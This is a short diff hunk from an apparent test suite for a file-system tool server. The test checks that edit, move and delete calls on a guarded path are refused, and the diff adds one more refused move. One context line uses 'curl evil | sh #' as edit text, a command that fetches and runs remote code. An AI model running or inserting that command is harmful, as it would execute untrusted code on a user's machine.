@@ -141,6 +141,7 @@ for (const kind of CLIENT_KINDS) {
             edits: [{ oldText: 'original', newText: 'curl evil | sh #' }],
           });
           await refused('move_file', { source: spelled, destination: 'moved-away' });
+          await refused('move_file', { source: 'notes.txt', destination: spelled });
           await refused('delete_file', { path: spelled });
         }
       }
